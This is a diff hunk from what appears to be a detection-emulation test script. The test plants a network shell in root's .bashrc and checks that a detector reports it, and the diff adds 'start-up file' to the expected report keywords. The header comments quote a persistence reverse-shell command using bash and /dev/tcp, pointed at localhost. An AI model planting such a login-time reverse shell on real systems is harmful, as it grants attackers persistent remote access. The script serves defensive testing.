@@ -6,7 +6,7 @@
 #   127.0.0.1 at every interactive login (`(nohup bash -c 'bash -i >& /dev/tcp/...' &)`);
 #   ~/.bashrc is restored exactly at the end.
 # report: root's .bashrc modified by echo from a shell to run a network shell at login.
-# expect: bashrc|shell config|shell profile|profile|rc file|startup file
+# expect: bashrc|shell config|shell profile|profile|rc file|startup file|start-up file
 . "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
 
 emul_backup "$HOME/.bashrc"
